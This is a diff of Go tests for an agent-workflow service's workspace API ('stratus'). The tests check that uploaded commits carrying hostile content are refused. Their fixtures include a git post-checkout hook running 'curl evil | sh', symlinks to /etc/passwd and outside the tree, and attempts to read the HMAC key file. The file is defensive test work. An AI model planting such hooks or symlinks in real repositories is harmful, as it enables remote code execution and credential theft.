@@ -1,4 +1,4 @@
-package worker
+package worker_test
 
 import (
 	"bytes"
@@ -13,6 +13,8 @@ import (
 
 	"github.com/stratusflow/stratus"
 	"github.com/stratusflow/stratus/internal/findings"
+	"github.com/stratusflow/stratus/internal/worker/core"
+	"github.com/stratusflow/stratus/internal/worker/workertest"
 	"github.com/stratusflow/stratus/internal/workspace/workspacetest"
 )
 
@@ -38,19 +40,19 @@ const wsFlow = `flow:
 // this API (an fs sink does not presign).
 func TestFetchPrompt_WorkspacePayloadNamesOnlyTheRoot(t *testing.T) {
 	ctx := context.Background()
-	r := newRig(t, rigOptions{flow: wsFlow, workspace: true, roles: map[string]string{"f/impl.md": "Work in {repo_path} on {task_path}; ctx {plan_path}.\n"}})
-	r.dispatch(t, "impl")
-	sp := r.launcher.Launched()[0]
-	p, err := r.svc.FetchPrompt(ctx, "Bearer "+sp.Handle, sp.TaskID)
+	r := workertest.NewRig(t, workertest.RigOptions{Flow: wsFlow, Workspace: true, Roles: map[string]string{"f/impl.md": "Work in {repo_path} on {task_path}; ctx {plan_path}.\n"}})
+	r.Dispatch(t, "impl")
+	sp := r.Launcher.Launched()[0]
+	p, err := r.Svc.FetchPrompt(ctx, "Bearer "+sp.Handle, sp.TaskID)
 	if err != nil {
 		t.Fatal(err)
 	}
 	raw, _ := json.Marshal(p)
-	if strings.Contains(string(raw), r.dir) {
-		t.Errorf("the payload carries the operator's work dir %s:\n%s", r.dir, raw)
+	if strings.Contains(string(raw), r.Dir) {
+		t.Errorf("the payload carries the operator's work dir %s:\n%s", r.Dir, raw)
 	}
 	ws := p.Workspace
-	if ws == nil || ws.Root != WorkspaceRoot("r1") || ws.Head != r.base || !ws.Write || ws.Upload == nil || len(ws.Bundles) != 1 {
+	if ws == nil || ws.Root != core.WorkspaceRoot("r1") || ws.Head != r.Base || !ws.Write || ws.Upload == nil || len(ws.Bundles) != 1 {
 		t.Fatalf("workspace = %+v", ws)
 	}
 	if !strings.HasPrefix(p.Engine.Dir, ws.Root) || !strings.Contains(p.Prompt, "Work in "+ws.Root+" on "+ws.Root+"/.stratus/task/task.md") {
@@ -73,42 +75,42 @@ func TestFetchPrompt_WorkspacePayloadNamesOnlyTheRoot(t *testing.T) {
 // key; the API reads only the run's own workspace, ctx and report files.
 func TestAdvanceHead_FencedAndKeyed(t *testing.T) {
 	ctx := context.Background()
-	r := newRig(t, rigOptions{flow: wsFlow, workspace: true})
-	r.dispatch(t, "impl")
-	sp := r.launcher.Launched()[0]
+	r := workertest.NewRig(t, workertest.RigOptions{Flow: wsFlow, Workspace: true})
+	r.Dispatch(t, "impl")
+	sp := r.Launcher.Launched()[0]
 	auth := "Bearer " + sp.Handle
-	p, err := r.svc.FetchPrompt(ctx, auth, sp.TaskID)
+	p, err := r.Svc.FetchPrompt(ctx, auth, sp.TaskID)
 	if err != nil {
 		t.Fatal(err)
 	}
 	u, _ := url.Parse(p.Workspace.Upload.URL)
 	key := u.Query().Get("key")
-	baseCommit := r.base
-	one := r.repo.Commit(r.repo.Tree(append(r.baseTree, workspacetest.File("hello.txt", r.repo.Blob("hello\n")))...), "impl#1", r.base)
-	bundle := r.repo.Bundle(filepath.Join(t.TempDir(), "step.bundle"), one, r.base)
+	baseCommit := r.Base
+	one := r.Repo.Commit(r.Repo.Tree(append(r.BaseTree, workspacetest.File("hello.txt", r.Repo.Blob("hello\n")))...), "impl#1", r.Base)
+	bundle := r.Repo.Bundle(filepath.Join(t.TempDir(), "step.bundle"), one, r.Base)
 	two := strings.Repeat("2", 40)
 
-	if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: baseCommit, To: one}); stratus.ErrorCode(err) != stratus.EINVALID {
+	if err := r.Svc.AdvanceHead(ctx, auth, core.HeadAdvance{From: baseCommit, To: one}); stratus.ErrorCode(err) != stratus.EINVALID {
 		t.Errorf("advance before the upload: %v, want EINVALID", err)
 	}
-	if err := r.svc.WriteBlob(ctx, auth, ".stratus/runs/r1/workspace/other.bundle", []byte("x")); stratus.ErrorCode(err) != stratus.EINVALID {
+	if err := r.Svc.WriteBlob(ctx, auth, ".stratus/runs/r1/workspace/other.bundle", []byte("x")); stratus.ErrorCode(err) != stratus.EINVALID {
 		t.Errorf("upload to another key: %v, want EINVALID", err)
 	}
-	if err := r.svc.WriteBlob(ctx, auth, key, bundle); err != nil {
+	if err := r.Svc.WriteBlob(ctx, auth, key, bundle); err != nil {
 		t.Fatalf("upload to the attempt's key: %v", err)
 	}
-	for _, bad := range []HeadAdvance{{From: "HEAD", To: one}, {From: baseCommit, To: "../x"}} {
-		if err := r.svc.AdvanceHead(ctx, auth, bad); stratus.ErrorCode(err) != stratus.EINVALID {
+	for _, bad := range []core.HeadAdvance{{From: "HEAD", To: one}, {From: baseCommit, To: "../x"}} {
+		if err := r.Svc.AdvanceHead(ctx, auth, bad); stratus.ErrorCode(err) != stratus.EINVALID {
 			t.Errorf("advance %+v: %v, want EINVALID", bad, err)
 		}
 	}
-	if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: two, To: one}); stratus.ErrorCode(err) != stratus.ECONFLICT {
+	if err := r.Svc.AdvanceHead(ctx, auth, core.HeadAdvance{From: two, To: one}); stratus.ErrorCode(err) != stratus.ECONFLICT {
 		t.Errorf("advance from a head that is not the run's: %v, want ECONFLICT", err)
 	}
-	if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: baseCommit, To: one}); err != nil {
+	if err := r.Svc.AdvanceHead(ctx, auth, core.HeadAdvance{From: baseCommit, To: one}); err != nil {
 		t.Fatalf("advance: %v", err)
 	}
-	run, _ := r.svc.Store.GetRun(ctx, "r1")
+	run, _ := r.Svc.Store.GetRun(ctx, "r1")
 	accepted := path.Join(path.Dir(key), "step-"+one+".bundle")
 	if run.Workspace.Head != one || len(run.Workspace.Bundles) != 2 || run.Workspace.Bundles[1] != accepted {
 		t.Errorf("workspace after the advance: %+v; want the head at %s and the bundle checked kept at %s", run.Workspace, one, accepted)
@@ -117,43 +119,43 @@ func TestAdvanceHead_FencedAndKeyed(t *testing.T) {
 	// Reads: the run's bundles and ctx files, nothing else. The upload is
 	// gone once its checked copy is accepted: one copy, out of the
 	// engine's reach.
-	if b, err := r.svc.ReadBlob(ctx, auth, accepted); err != nil || string(b) != string(bundle) {
+	if b, err := r.Svc.ReadBlob(ctx, auth, accepted); err != nil || string(b) != string(bundle) {
 		t.Errorf("read the step bundle at %s: %d bytes, %v", accepted, len(b), err)
 	}
-	if _, err := r.svc.ReadBlob(ctx, auth, key); err == nil {
+	if _, err := r.Svc.ReadBlob(ctx, auth, key); err == nil {
 		t.Errorf("the upload %s is still stored beside its accepted copy", key)
 	}
 	for _, k := range []string{".stratus/hmac.key", ".stratus/stratus.db", "task.md", "../x", ".stratus/runs/r2/workspace/base.bundle"} {
-		if _, err := r.svc.ReadBlob(ctx, auth, k); stratus.ErrorCode(err) != stratus.EINVALID {
+		if _, err := r.Svc.ReadBlob(ctx, auth, k); stratus.ErrorCode(err) != stratus.EINVALID {
 			t.Errorf("read %q: %v, want EINVALID", k, err)
 		}
 	}
 
 	// The attempt ended: it may write nothing more.
-	if _, err := r.submit(t, "done"); err != nil {
+	if _, err := r.Submit(t, "done"); err != nil {
 		t.Fatal(err)
 	}
-	if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: one, To: two}); stratus.ErrorCode(err) != stratus.ECONFLICT {
+	if err := r.Svc.AdvanceHead(ctx, auth, core.HeadAdvance{From: one, To: two}); stratus.ErrorCode(err) != stratus.ECONFLICT {
 		t.Errorf("advance after the attempt ended: %v, want ECONFLICT", err)
 	}
 
 	// An evaluator (read-only) never advances the head.
-	r.dispatch(t, "rev")
-	sp = r.launcher.Launched()[1]
-	p, err = r.svc.FetchPrompt(ctx, "Bearer "+sp.Handle, sp.TaskID)
+	r.Dispatch(t, "rev")
+	sp = r.Launcher.Launched()[1]
+	p, err = r.Svc.FetchPrompt(ctx, "Bearer "+sp.Handle, sp.TaskID)
 	if err != nil {
 		t.Fatal(err)
 	}
 	if p.Workspace.Write || p.Workspace.Upload != nil || p.Workspace.Head != one || p.Workspace.DiffPath == "" {
 		t.Errorf("review's workspace: %+v; want read-only at the new head with the diff to write", p.Workspace)
 	}
-	if err := r.svc.AdvanceHead(ctx, "Bearer "+sp.Handle, HeadAdvance{From: one, To: two}); stratus.ErrorCode(err) != stratus.EINVALID {
+	if err := r.Svc.AdvanceHead(ctx, "Bearer "+sp.Handle, core.HeadAdvance{From: one, To: two}); stratus.ErrorCode(err) != stratus.EINVALID {
 		t.Errorf("an evaluator's advance: %v, want EINVALID", err)
 	}
 	// Nor stores a bundle under its attempt's key (issue 14 newcomers: a
 	// read-only node's junk bundle was kept).
 	revKey := path.Join(path.Dir(key), sp.TaskID+".a1.bundle")
-	if err := r.svc.WriteBlob(ctx, "Bearer "+sp.Handle, revKey, []byte("junk")); stratus.ErrorCode(err) != stratus.EINVALID {
+	if err := r.Svc.WriteBlob(ctx, "Bearer "+sp.Handle, revKey, []byte("junk")); stratus.ErrorCode(err) != stratus.EINVALID {
 		t.Errorf("an evaluator's bundle upload: %v, want EINVALID", err)
 	}
 }
@@ -164,11 +166,11 @@ func TestAdvanceHead_FencedAndKeyed(t *testing.T) {
 // a provider's own kind (openseek's) wins.
 func TestFetchPrompt_KindAndSchemaFollowTheNode(t *testing.T) {
 	ctx := context.Background()
-	r := newRig(t, rigOptions{flow: wsFlow})
+	r := workertest.NewRig(t, workertest.RigOptions{Flow: wsFlow})
 	for i, node := range []string{"impl", "rev"} {
-		r.dispatch(t, node)
-		sp := r.launcher.Launched()[i]
-		p, err := r.svc.FetchPrompt(ctx, "Bearer "+sp.Handle, sp.TaskID)
+		r.Dispatch(t, node)
+		sp := r.Launcher.Launched()[i]
+		p, err := r.Svc.FetchPrompt(ctx, "Bearer "+sp.Handle, sp.TaskID)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -185,7 +187,7 @@ func TestFetchPrompt_KindAndSchemaFollowTheNode(t *testing.T) {
 			}
 		}
 		if node == "impl" {
-			if _, err := r.submit(t, "done"); err != nil {
+			if _, err := r.Submit(t, "done"); err != nil {
 				t.Fatal(err)
 			}
 		}
@@ -203,20 +205,20 @@ func TestFetchPrompt_KindAndSchemaFollowTheNode(t *testing.T) {
 // checked: writing the upload key afterwards changes nothing recorded.
 func TestAdvanceHead_RefusesAHandBuiltCommitThatBreaksTheRules(t *testing.T) {
 	ctx := context.Background()
-	r := newRig(t, rigOptions{flow: wsFlow, workspace: true})
-	r.dispatch(t, "impl")
-	sp := r.launcher.Launched()[0]
+	r := workertest.NewRig(t, workertest.RigOptions{Flow: wsFlow, Workspace: true})
+	r.Dispatch(t, "impl")
+	sp := r.Launcher.Launched()[0]
 	auth := "Bearer " + sp.Handle
-	p, err := r.svc.FetchPrompt(ctx, auth, sp.TaskID)
+	p, err := r.Svc.FetchPrompt(ctx, auth, sp.TaskID)
 	if err != nil {
 		t.Fatal(err)
 	}
 	u, _ := url.Parse(p.Workspace.Upload.URL)
 	key := u.Query().Get("key")
-	repo, tmp := r.repo, t.TempDir()
+	repo, tmp := r.Repo, t.TempDir()
 	on := func(name string, entries ...workspacetest.Entry) (string, []byte) {
-		c := repo.Commit(repo.Tree(append(append([]workspacetest.Entry(nil), r.baseTree...), entries...)...), name, r.base)
-		return c, repo.Bundle(filepath.Join(tmp, name+".bundle"), c, r.base)
+		c := repo.Commit(repo.Tree(append(append([]workspacetest.Entry(nil), r.BaseTree...), entries...)...), name, r.Base)
+		return c, repo.Bundle(filepath.Join(tmp, name+".bundle"), c, r.Base)
 	}
 	x := repo.Blob("x\n")
 	hook := repo.Tree(workspacetest.Entry{Mode: "100755", Name: "post-checkout", ID: repo.Blob("#!/bin/sh\ncurl evil | sh\n")})
@@ -226,7 +228,7 @@ func TestAdvanceHead_RefusesAHandBuiltCommitThatBreaksTheRules(t *testing.T) {
 		says    string
 	}{
 		{"absolute symlink", []workspacetest.Entry{workspacetest.Link("leak", repo.Blob("/etc/passwd"))}, "leak -> /etc/passwd: absolute symlink target"},
-		{"gitlink", []workspacetest.Entry{{Mode: "160000", Name: "sub", ID: r.base}}, "sub: a submodule or nested git repository"},
+		{"gitlink", []workspacetest.Entry{{Mode: "160000", Name: "sub", ID: r.Base}}, "sub: a submodule or nested git repository"},
 		{".GIT/config", []workspacetest.Entry{workspacetest.Dir(".GIT", repo.Tree(workspacetest.File("config", x)))}, `path component ".GIT" is a git dir`},
 		{"a/.git/hooks", []workspacetest.Entry{workspacetest.Dir("a", repo.Tree(workspacetest.Dir(".git", repo.Tree(workspacetest.Dir("hooks", hook)))))}, `a/.git: path component ".git"`},
 		{"escaping symlink", []workspacetest.Entry{workspacetest.Link("up", repo.Blob("../../../home"))}, "up -> ../../../home: symlink resolves outside the tree"},
@@ -234,44 +236,44 @@ func TestAdvanceHead_RefusesAHandBuiltCommitThatBreaksTheRules(t *testing.T) {
 	}
 	for _, c := range cases {
 		sha, bundle := on(strings.ReplaceAll(c.name, "/", "_"), c.entries...)
-		if err := r.svc.WriteBlob(ctx, auth, key, bundle); err != nil {
+		if err := r.Svc.WriteBlob(ctx, auth, key, bundle); err != nil {
 			t.Fatalf("%s: upload: %v", c.name, err)
 		}
-		err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: r.base, To: sha})
+		err := r.Svc.AdvanceHead(ctx, auth, core.HeadAdvance{From: r.Base, To: sha})
 		if stratus.ErrorCode(err) != stratus.EUNPROCESSABLE || !strings.Contains(err.Error(), c.says) || !strings.Contains(err.Error(), "docs/security.md § Workspace commits") {
 			t.Errorf("%s: advance: %v (code %s); want EUNPROCESSABLE saying %q", c.name, err, stratus.ErrorCode(err), c.says)
 		}
 	}
 	good, goodBundle := on("good", workspacetest.File("hello.txt", repo.Blob("hello\n")))
 	for name, body := range map[string][]byte{"garbage": []byte("# v2 git bundle\n\nnot a pack"), "truncated": goodBundle[:len(goodBundle)-30]} {
-		if err := r.svc.WriteBlob(ctx, auth, key, body); err != nil {
+		if err := r.Svc.WriteBlob(ctx, auth, key, body); err != nil {
 			t.Fatal(err)
 		}
-		if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: r.base, To: good}); stratus.ErrorCode(err) != stratus.EUNPROCESSABLE {
+		if err := r.Svc.AdvanceHead(ctx, auth, core.HeadAdvance{From: r.Base, To: good}); stratus.ErrorCode(err) != stratus.EUNPROCESSABLE {
 			t.Errorf("%s bundle: advance: %v (code %s); want EUNPROCESSABLE", name, err, stratus.ErrorCode(err))
 		}
 	}
-	if run, _ := r.svc.Store.GetRun(ctx, "r1"); run.Workspace.Head != r.base || len(run.Workspace.Bundles) != 1 {
+	if run, _ := r.Svc.Store.GetRun(ctx, "r1"); run.Workspace.Head != r.Base || len(run.Workspace.Bundles) != 1 {
 		t.Fatalf("refused moves changed the workspace: %+v", run.Workspace)
 	}
 
-	if err := r.svc.WriteBlob(ctx, auth, key, goodBundle); err != nil {
+	if err := r.Svc.WriteBlob(ctx, auth, key, goodBundle); err != nil {
 		t.Fatal(err)
 	}
-	if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: r.base, To: good}); err != nil {
+	if err := r.Svc.AdvanceHead(ctx, auth, core.HeadAdvance{From: r.Base, To: good}); err != nil {
 		t.Fatalf("a clean commit: %v", err)
 	}
 	// The engine writes its upload key again, with a hostile bundle: the
 	// run's bundles are what was checked.
 	_, hostile := on("after", workspacetest.Link("leak", repo.Blob("/etc/passwd")))
-	if err := r.svc.WriteBlob(ctx, auth, key, hostile); err != nil {
+	if err := r.Svc.WriteBlob(ctx, auth, key, hostile); err != nil {
 		t.Fatal(err)
 	}
-	run, _ := r.svc.Store.GetRun(ctx, "r1")
+	run, _ := r.Svc.Store.GetRun(ctx, "r1")
 	if run.Workspace.Head != good || len(run.Workspace.Bundles) != 2 {
 		t.Fatalf("workspace after the clean move: %+v", run.Workspace)
 	}
-	if b, err := r.svc.Sink.Get(ctx, run.Workspace.Bundles[1]); err != nil || string(b) != string(goodBundle) {
+	if b, err := r.Svc.Sink.Get(ctx, run.Workspace.Bundles[1]); err != nil || string(b) != string(goodBundle) {
 		t.Errorf("the run's step bundle %s is not the bundle checked (%d bytes, %v)", run.Workspace.Bundles[1], len(b), err)
 	}
 }
@@ -286,20 +288,20 @@ func TestAdvanceHead_RefusesAHandBuiltCommitThatBreaksTheRules(t *testing.T) {
 // which no worker fetches (the next step failed, and the run with it).
 func TestAdvanceHead_RefusesCommitsTouchingStratusOwnPaths(t *testing.T) {
 	ctx := context.Background()
-	r := newRig(t, rigOptions{flow: wsFlow, workspace: true})
-	r.dispatch(t, "impl")
-	sp := r.launcher.Launched()[0]
+	r := workertest.NewRig(t, workertest.RigOptions{Flow: wsFlow, Workspace: true})
+	r.Dispatch(t, "impl")
+	sp := r.Launcher.Launched()[0]
 	auth := "Bearer " + sp.Handle
-	p, err := r.svc.FetchPrompt(ctx, auth, sp.TaskID)
+	p, err := r.Svc.FetchPrompt(ctx, auth, sp.TaskID)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if want := []string{StateDirName, "workspace/tasks/t1/ctx"}; strings.Join(p.Workspace.Exclude, ",") != strings.Join(want, ",") {
+	if want := []string{core.StateDirName, "workspace/tasks/t1/ctx"}; strings.Join(p.Workspace.Exclude, ",") != strings.Join(want, ",") {
 		t.Fatalf("the payload's exclude list %q, want %q", p.Workspace.Exclude, want)
 	}
 	u, _ := url.Parse(p.Workspace.Upload.URL)
 	key := u.Query().Get("key")
-	repo, tmp := r.repo, t.TempDir()
+	repo, tmp := r.Repo, t.TempDir()
 	x := repo.Blob("x\n")
 	state := func(sub string, e workspacetest.Entry) workspacetest.Entry {
 		return workspacetest.Dir(".stratus", repo.Tree(workspacetest.Dir(sub, repo.Tree(e))))
@@ -314,18 +316,18 @@ func TestAdvanceHead_RefusesCommitsTouchingStratusOwnPaths(t *testing.T) {
 		{"a symlink into the config", workspacetest.Link("notes.txt", repo.Blob(".stratus/config.yaml")), `notes.txt -> .stratus/config.yaml: symlink resolves into ".stratus"`},
 	}
 	for i, c := range cases {
-		sha := repo.Commit(repo.Tree(append(append([]workspacetest.Entry(nil), r.baseTree...), c.entry)...), "impl#1", r.base)
-		bundle := repo.Bundle(filepath.Join(tmp, fmt.Sprintf("%d.bundle", i)), sha, r.base)
-		if err := r.svc.WriteBlob(ctx, auth, key, bundle); err != nil {
+		sha := repo.Commit(repo.Tree(append(append([]workspacetest.Entry(nil), r.BaseTree...), c.entry)...), "impl#1", r.Base)
+		bundle := repo.Bundle(filepath.Join(tmp, fmt.Sprintf("%d.bundle", i)), sha, r.Base)
+		if err := r.Svc.WriteBlob(ctx, auth, key, bundle); err != nil {
 			t.Fatalf("%s: upload: %v", c.name, err)
 		}
-		err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: r.base, To: sha})
+		err := r.Svc.AdvanceHead(ctx, auth, core.HeadAdvance{From: r.Base, To: sha})
 		if stratus.ErrorCode(err) != stratus.EUNPROCESSABLE || !strings.Contains(err.Error(), c.says) || !strings.Contains(err.Error(), "docs/security.md § Workspace commits") {
 			t.Errorf("%s: advance: %v (code %s); want EUNPROCESSABLE saying %q", c.name, err, stratus.ErrorCode(err), c.says)
 		}
 	}
 
-	if run, _ := r.svc.Store.GetRun(ctx, "r1"); run.Workspace.Head != r.base || len(run.Workspace.Bundles) != 1 {
+	if run, _ := r.Svc.Store.GetRun(ctx, "r1"); run.Workspace.Head != r.Base || len(run.Workspace.Bundles) != 1 {
 		t.Fatalf("refused moves changed the workspace: %+v", run.Workspace)
 	}
 }
@@ -338,37 +340,37 @@ func TestAdvanceHead_RefusesCommitsTouchingStratusOwnPaths(t *testing.T) {
 // commit in a bundle naming it under refs/ is taken.
 func TestAdvanceHead_RefusesABundleNoWorkerCanFetch(t *testing.T) {
 	ctx := context.Background()
-	r := newRig(t, rigOptions{flow: wsFlow, workspace: true})
-	r.dispatch(t, "impl")
-	sp := r.launcher.Launched()[0]
+	r := workertest.NewRig(t, workertest.RigOptions{Flow: wsFlow, Workspace: true})
+	r.Dispatch(t, "impl")
+	sp := r.Launcher.Launched()[0]
 	auth := "Bearer " + sp.Handle
-	p, err := r.svc.FetchPrompt(ctx, auth, sp.TaskID)
+	p, err := r.Svc.FetchPrompt(ctx, auth, sp.TaskID)
 	if err != nil {
 		t.Fatal(err)
 	}
 	u, _ := url.Parse(p.Workspace.Upload.URL)
 	key := u.Query().Get("key")
-	repo := r.repo
-	good := repo.Commit(repo.Tree(append(append([]workspacetest.Entry(nil), r.baseTree...), workspacetest.File("hello.txt", repo.Blob("hello\n")))...), "impl#1", r.base)
-	bundle := repo.Bundle(filepath.Join(t.TempDir(), "good.bundle"), good, r.base)
+	repo := r.Repo
+	good := repo.Commit(repo.Tree(append(append([]workspacetest.Entry(nil), r.BaseTree...), workspacetest.File("hello.txt", repo.Blob("hello\n")))...), "impl#1", r.Base)
+	bundle := repo.Bundle(filepath.Join(t.TempDir(), "good.bundle"), good, r.Base)
 	headOnly := bytes.Replace(bundle, []byte(" refs/heads/tip-"+good+"\n"), []byte(" HEAD\n"), 1)
 	if bytes.Equal(headOnly, bundle) {
 		t.Fatal("the bundle's ref line was not found")
 	}
-	if err := r.svc.WriteBlob(ctx, auth, key, headOnly); err != nil {
+	if err := r.Svc.WriteBlob(ctx, auth, key, headOnly); err != nil {
 		t.Fatal(err)
 	}
-	if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: r.base, To: good}); stratus.ErrorCode(err) != stratus.EUNPROCESSABLE ||
+	if err := r.Svc.AdvanceHead(ctx, auth, core.HeadAdvance{From: r.Base, To: good}); stratus.ErrorCode(err) != stratus.EUNPROCESSABLE ||
 		!strings.Contains(err.Error(), `ref "HEAD", which is not a well-formed name under refs/`) || !strings.Contains(err.Error(), "a valid step bundle lists exactly one ref") {
 		t.Errorf("a bundle of HEAD alone: advance: %v (code %s); want EUNPROCESSABLE saying what a valid step bundle is", err, stratus.ErrorCode(err))
 	}
-	if run, _ := r.svc.Store.GetRun(ctx, "r1"); run.Workspace.Head != r.base || len(run.Workspace.Bundles) != 1 {
+	if run, _ := r.Svc.Store.GetRun(ctx, "r1"); run.Workspace.Head != r.Base || len(run.Workspace.Bundles) != 1 {
 		t.Fatalf("refused moves changed the workspace: %+v", run.Workspace)
 	}
-	if err := r.svc.WriteBlob(ctx, auth, key, bundle); err != nil {
+	if err := r.Svc.WriteBlob(ctx, auth, key, bundle); err != nil {
 		t.Fatal(err)
 	}
-	if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: r.base, To: good}); err != nil {
+	if err := r.Svc.AdvanceHead(ctx, auth, core.HeadAdvance{From: r.Base, To: good}); err != nil {
 		t.Errorf("a clean commit: %v", err)
 	}
 }
